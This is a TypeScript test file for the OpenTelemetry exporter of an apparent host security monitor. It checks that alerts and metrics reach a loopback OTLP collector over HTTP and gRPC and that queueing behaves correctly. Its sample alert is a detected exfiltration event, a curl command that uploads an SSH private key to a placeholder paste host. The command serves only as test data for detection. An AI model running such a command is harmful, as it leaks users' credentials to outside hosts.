// The OpenTelemetry exporter against a loopback collector that decodes OTLP with its message
// definitions: what arrives (resource, record fields, metrics), over OTLP/HTTP and OTLP/gRPC; a
// collector down then up loses nothing; a full queue counts exactly what it dropped.
import { Counter, Registry } from "prom-client";
import { afterEach, describe, expect, it } from "vitest";
import type { Alert, Event, Notice } from "../../src/events/index.js";
import { OtelExport, type OtelOptions } from "../../src/telemetry/otel.js";
import { attrs, OtlpReceiver, plain } from "../helpers/otlp-receiver.js";
import { waitFor } from "../helpers/system.js";

function event(n: number): Event {
  return { id: n.toString(16).padStart(16, "0"), ts: 1_765_000_000_000 + n, source: "auditd", kind: "exec", node_id: "node-a", fidelity: "kernel", process: { pid: 4000 + n, uid: 1001, auid: 1001, exe: "/usr/bin/curl", argv: ["curl", "-T", "/home/agent/.ssh/id_ed25519", "https://paste.example"] } };
}

function notice(n: number, severity: Alert["severity"] = "critical", fresh = true): Notice {
  const e = event(n);
  const alert: Alert = { event_id: e.id, ts: e.ts, severity, category: "DATA_EXFIL", rule: "exfil.upload-secret", engine: "behavior", summary: `upload of a key #${n}`, action: "alert", node_id: "node-a", policy_version: "old", mitre: ["T1048", "T1552.004"], event: e };
  return { alert, entry: { key: `k${n}`, alert, count: fresh ? 1 : 2, first_ts: e.ts, last_ts: e.ts, last_event_id: e.id }, fresh, push: [] };
}

const base = (over: Partial<OtelOptions>): OtelOptions => ({
  protocol: "http",
  endpoint: "http://127.0.0.1:1",
  headers: {},
  logs: true,
  events: false,
  minSeverity: "warning",
  repeats: false,
  metrics: false,
  metricsIntervalMs: 200,
  queueSize: 1000,
  batchSize: 10,
  flushIntervalMs: 50,
  timeoutMs: 2000,
  resource: { hostName: "host-a", nodeId: "node-a", policyVersion: "2026.12.1", serviceVersion: "0.1.0" },
  policyVersion: () => "2026.12.2",
  ...over,
});

describe("OpenTelemetry export", () => {
  const rx = new OtlpReceiver();
  let sink: OtelExport | undefined;
  afterEach(async () => {
    await sink?.close();
    sink = undefined;
    await rx.stop();
    rx.logs.length = 0;
    rx.metrics.length = 0;
  });

  for (const protocol of ["http", "grpc"] as const) {
    it(`sends alerts as OTLP log records over ${protocol}, with the resource and the alert's fields`, async () => {
      if (protocol === "http") await rx.startHttp();
      else await rx.startGrpc();
      const endpoint = protocol === "http" ? `http://127.0.0.1:${rx.httpPort}` : `127.0.0.1:${rx.grpcPort}`;
      sink = new OtelExport(base({ protocol, endpoint }));
      sink.accept(notice(1));
      sink.accept(notice(2, "info")); // under min_severity: not sent
      sink.accept(notice(3, "warning"));
      await waitFor("two log records", () => (rx.logs.length >= 2 ? true : undefined), 10_000, 20);
      expect(rx.logs).toHaveLength(2);
      const [a, b] = rx.logs;
      expect(a!.resource).toMatchObject({ "service.name": "clawav", "service.version": "0.1.0", "host.name": "host-a", node_id: "node-a", policy_version: "2026.12.1" });
      expect(plain(a!.body)).toBe("upload of a key #1");
      expect(a!.severityText).toBe("critical");
      expect(a!.severityNumber).toBe(17);
      expect(b!.severityText).toBe("warning");
      expect(b!.severityNumber).toBe(13);
      expect(a!.eventName).toBe("clawav.alert");
      expect(BigInt(a!.timeUnixNano)).toBe(BigInt(1_765_000_000_001) * 1_000_000n);
      const at = attrs(a!.attributes);
      expect(at).toMatchObject({ "clawav.event_id": "0000000000000001", "clawav.rule": "exfil.upload-secret", "clawav.category": "DATA_EXFIL", "clawav.mitre": ["T1048", "T1552.004"], node_id: "node-a", policy_version: "2026.12.2", "process.pid": 4001, "process.executable.path": "/usr/bin/curl", "user.id": 1001 });
      await waitFor("the collector's answer", () => (sink!.status().sent === 2 ? true : undefined), 10_000, 20);
      expect(sink.status()).toMatchObject({ sent: 2, dropped: 0, queued: 0 });
      expect(rx.requests[protocol === "http" ? "http_logs" : "grpc_logs"]).toBeGreaterThan(0);
    });
  }

  it("sends a repeat folded into an earlier alert only with repeats", async () => {
    await rx.startHttp();
    sink = new OtelExport(base({ endpoint: `http://127.0.0.1:${rx.httpPort}` }));
    sink.accept(notice(1));
    sink.accept(notice(2, "critical", false));
    await sink.close();
    sink = new OtelExport(base({ endpoint: `http://127.0.0.1:${rx.httpPort}`, repeats: true }));
    sink.accept(notice(3, "critical", false));
    await waitFor("the repeat", () => (rx.logs.length >= 2 ? true : undefined), 10_000, 20);
    expect(rx.logs.map((l) => [plain(l.body), attrs(l.attributes)["clawav.count"]])).toEqual([
      ["upload of a key #1", 1],
      ["upload of a key #3", 2],
    ]);
  });

  it("sends every judged event too when asked", async () => {
    await rx.startHttp();
    sink = new OtelExport(base({ endpoint: `http://127.0.0.1:${rx.httpPort}`, events: true }));
    sink.observe(event(7));
    await waitFor("the event", () => (rx.logs.length >= 1 ? true : undefined), 10_000, 20);
    expect(rx.logs[0]!.eventName).toBe("clawav.event");
    expect(attrs(rx.logs[0]!.attributes)).toMatchObject({ "clawav.event_id": "0000000000000007", "clawav.event_kind": "exec", "process.command_line": "curl -T /home/agent/.ssh/id_ed25519 https://paste.example" });
  });

  it("loses nothing while the collector is down, then delivers in order", async () => {
    await rx.startHttp();
    const port = rx.httpPort;
    await rx.stopHttp();
    sink = new OtelExport(base({ endpoint: `http://127.0.0.1:${port}` }));
    for (let i = 1; i <= 25; i++) sink.accept(notice(i));
    await waitFor("a failed try", () => (Number(sink!.status().failures) > 0 ? true : undefined), 10_000, 20);
    expect(rx.logs).toHaveLength(0);
    expect(sink.status().queued).toBe(25);
    await rx.startHttp(port);
    await waitFor("all 25 records", () => (rx.logs.length >= 25 ? true : undefined), 20_000, 50);
    expect(rx.logs.map((l) => plain(l.body))).toEqual(Array.from({ length: 25 }, (_, i) => `upload of a key #${i + 1}`));
    await waitFor("the collector's answers", () => (sink!.status().sent === 25 ? true : undefined), 10_000, 20);
    expect(sink.status()).toMatchObject({ sent: 25, dropped: 0, queued: 0 });
  });

  it("counts exactly what a full queue drops (the oldest), and sends the rest", async () => {
    await rx.startHttp();
    const port = rx.httpPort;
    await rx.stopHttp();
    sink = new OtelExport(base({ endpoint: `http://127.0.0.1:${port}`, queueSize: 10, batchSize: 5 }));
    for (let i = 1; i <= 30; i++) sink.accept(notice(i));
    expect(sink.status()).toMatchObject({ dropped: 20, queued: 10 });
    await rx.startHttp(port);
    await waitFor("the 10 kept", () => (rx.logs.length >= 10 ? true : undefined), 20_000, 50);
    expect(rx.logs.map((l) => plain(l.body))).toEqual(Array.from({ length: 10 }, (_, i) => `upload of a key #${i + 21}`));
    await waitFor("the collector's answers", () => (sink!.status().sent === 10 ? true : undefined), 10_000, 20);
    expect(sink.status()).toMatchObject({ sent: 10, dropped: 20 });
  });

  for (const protocol of ["http", "grpc"] as const) {
    it(`exports the registry's counters and the latency histogram as OTLP metrics over ${protocol}`, async () => {
      if (protocol === "http") await rx.startHttp();
      else await rx.startGrpc();
      const endpoint = protocol === "http" ? `http://127.0.0.1:${rx.httpPort}` : `127.0.0.1:${rx.grpcPort}`;
      const registry = new Registry();
      const c = new Counter({ name: "clawav_events_total", help: "Events judged", registers: [registry] });
      const bySev = new Counter({ name: "clawav_alerts_by_severity_total", help: "Alerts by severity", labelNames: ["severity"], registers: [registry] });
      c.inc(41);
      bySev.inc({ severity: "critical" }, 3);
      sink = new OtelExport(base({ protocol, endpoint, logs: false, metrics: true, metricsSource: { registry, read: () => registry.getMetricsAsJSON() } }));
      sink.recordHandle(0.000012);
      sink.recordHandle(0.00003);
      c.inc(1);
      await waitFor("the metrics", () => (rx.latest("clawav_events_total") === 42 && rx.metrics.some((m) => m.name === "clawav_event_handle_seconds") ? true : undefined), 10_000, 50);
      expect(rx.latest("clawav_alerts_by_severity_total", (a) => a.severity === "critical")).toBe(3);
      const h = rx.metrics.find((m) => m.name === "clawav_event_handle_seconds")!;
      expect(Number(h.histogram!.dataPoints[0]!.count)).toBe(2);
      expect(h.histogram!.dataPoints[0]!.sum).toBeCloseTo(0.000042, 9);
      expect(h.resource).toMatchObject({ node_id: "node-a", "host.name": "host-a" });
    });
  }
});
